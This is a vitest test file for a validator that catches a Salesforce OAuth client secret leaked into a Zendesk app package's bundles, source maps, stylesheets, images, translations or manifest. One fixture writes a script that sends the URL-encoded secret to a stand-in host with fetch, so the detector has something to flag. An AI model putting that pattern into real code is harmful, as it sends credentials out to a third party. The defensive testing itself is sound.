import { describe, expect, it } from 'vitest'
import { validatePackage } from '../validate-package'
import { OAUTH_SECRET_NOTE } from '../oauth-secret'
import { params, ValidPackage } from '../fixtures/valid-package'

type Json = Record<string, unknown>
// Shaped like a Salesforce consumer secret (64 hex characters), built from parts so this file holds none.
const SECRET = ['3F9A1C0B7D2E', '4F6A8B0C1D2E3F4A5B6C7D8E9F0A1B2C3D4E5F6A7B8C9D0E1F2A3B4C5D6E7F80'].join('')

/** The fixture as the Salesforce OAuth package: the oauth block, and an oauth parameter instead of the token. */
function oauthPackage(): ValidPackage {
  return new ValidPackage()
    .manifest((m) => {
      m['oauth'] = {
        client_id: '3MVG9fixtureConsumerKey',
        client_secret: SECRET,
        authorize_uri: 'https://login.salesforce.com/services/oauth2/authorize',
        access_token_uri: 'https://login.salesforce.com/services/oauth2/token',
        scope: 'api refresh_token',
      }
      params(m)[1] = { name: 'salesforce_oauth', type: 'oauth', required: true }
    })
    .app(
      'en',
      (app) => ((app['parameters'] as Json)['salesforce_oauth'] = { label: 'Salesforce connection' })
    )
    .app(
      'de',
      (app) => ((app['parameters'] as Json)['salesforce_oauth'] = { label: 'Salesforce-Verbindung' })
    )
}

function findingsOf(change: (pkg: ValidPackage) => void = () => undefined) {
  const pkg = oauthPackage()
  try {
    change(pkg)
    return validatePackage(pkg.dir).map(({ severity, rule, file, note }) => ({ severity, rule, file, note }))
  } finally {
    pkg.dispose()
  }
}

const leaked = (file: string) => ({
  severity: 'error',
  rule: 'oauth/client-secret-leaked',
  file,
  note: undefined,
})

describe('the OAuth client secret', () => {
  it('in manifest.json only: no finding of ours, and what Zendesk says about it is marked as the required oauth block', () => {
    expect(findingsOf()).toEqual([
      {
        severity: 'warning',
        rule: 'zendesk/possible-secret',
        file: 'manifest.json',
        note: OAUTH_SECRET_NOTE,
      },
      {
        severity: 'warning',
        rule: 'zendesk/secret-keywords',
        file: 'manifest.json',
        note: `manifest.json: ${OAUTH_SECRET_NOTE}`,
      },
    ])
  })

  it.each([
    ['a bundle chunk', 'assets/compose-abc123.js', `const s="${SECRET}";export{s}`],
    ['a source map', 'assets/compose-abc123.js.map', `{"version":3,"sourcesContent":["${SECRET}"]}`],
    ['a stylesheet', 'assets/index.css', `/* ${SECRET} */`],
    ['an image', 'assets/logo-extra.png', Buffer.concat([Buffer.from([0x89, 0x50]), Buffer.from(SECRET)])],
  ])('in %s is an error naming the file', (_what, file, content) => {
    expect(findingsOf((pkg) => pkg.write(file, content)).filter((f) => f.rule.startsWith('oauth/'))).toEqual([
      leaked(file),
    ])
  })

  it('in a translation is an error', () => {
    const findings = findingsOf((pkg) =>
      pkg.app('de', (app) => (app['long_description'] = `Mit ${SECRET} anmelden.`))
    )
    expect(findings.filter((f) => f.rule.startsWith('oauth/'))).toEqual([leaked('translations/de.json')])
  })

  it('URL-encoded in a script is an error too', () => {
    const secret = `${SECRET}/+=`
    const pkg = oauthPackage().manifest((m) => ((m['oauth'] as Json)['client_secret'] = secret))
    try {
      pkg.write('assets/main-extra.js', `fetch("https://x.example/?s=${encodeURIComponent(secret)}")`)
      expect(validatePackage(pkg.dir).filter((f) => f.rule.startsWith('oauth/'))).toMatchObject([
        { rule: 'oauth/client-secret-leaked', file: 'assets/main-extra.js' },
      ])
    } finally {
      pkg.dispose()
    }
  })

  it('twice in manifest.json (a parameter default besides the oauth block) is an error', () => {
    const findings = findingsOf((pkg) =>
      pkg.manifest((m) => params(m).push({ name: 'login_hint', type: 'text', default: SECRET }))
    )
    expect(findings.filter((f) => f.rule.startsWith('oauth/'))).toEqual([leaked('manifest.json')])
  })

  it('does not hide another credential-looking literal in manifest.json', () => {
    const findings = findingsOf((pkg) =>
      (pkg.app('en', (app) => ((app['parameters'] as Json)['crm_region'] = { label: 'Region' })),
      pkg).manifest((m) =>
        params(m).push({
          name: 'crm_region',
          type: 'text',
          default: 'zone-1',
          api_key: 'q8Zt3LmW9xV2pR7kN4bY6cJ1',
        })
      )
    )
    expect(
      findings.map(({ severity, rule, note }) => `${severity} ${rule} ${note ? 'noted' : 'ours'}`)
    ).toEqual([
      'warning secrets/assigned-literal ours',
      'warning zendesk/possible-secret noted',
      'warning zendesk/secret-keywords ours',
    ])
  })
})
